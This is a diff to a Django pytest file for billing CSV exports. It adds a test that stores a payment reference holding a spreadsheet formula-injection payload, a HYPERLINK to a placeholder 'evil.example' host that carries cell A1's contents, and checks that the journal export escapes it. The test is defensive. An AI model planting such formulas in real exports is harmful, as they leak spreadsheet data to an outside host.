@@ -10,13 +10,14 @@ from django.core.management import CommandError, call_command
 
 from billing import export
 from billing.services import invoice_credit
+from oms.exports import csv_lines
 from tests.factories.billing import b2b_customer, issue, line
 
 pytestmark = pytest.mark.django_db
 
 
 def _rows(lines) -> list[dict]:
-    return list(csv.DictReader(io.StringIO("".join(export.csv_lines(lines)))))
+    return list(csv.DictReader(io.StringIO("".join(csv_lines(lines)))))
 
 
 def test_journal_export_has_every_line_of_the_period_and_balances():
@@ -75,3 +76,18 @@ def test_exports_defuse_spreadsheet_formulas_in_text():
 
 def invoice_net(invoice) -> str:
     return f"{invoice.net_amount:.2f}"
+
+
+def test_journal_export_escapes_a_formula_in_a_payment_reference():
+    from billing.services import payment_record
+    from tests.factories.orders import OrderFactory
+
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    payment_record(order=OrderFactory(), method="bank_transfer", amount="5.00", reference=evil, user=None)
+    today = date.today()
+    cells = [cell for row in export.journal_rows(today, today) for cell in row]
+    lines = "".join(csv_lines(export.journal_rows(today, today)))
+    assert any(evil in str(cell) for cell in cells), "the reference reaches the journal"
+    rows = list(csv.reader(io.StringIO(lines)))
+    assert not [cell for row in rows for cell in row if cell.startswith("=")]
+    assert any(cell.startswith("'=HYPERLINK") or cell.startswith("'") and evil in cell for row in rows for cell in row)
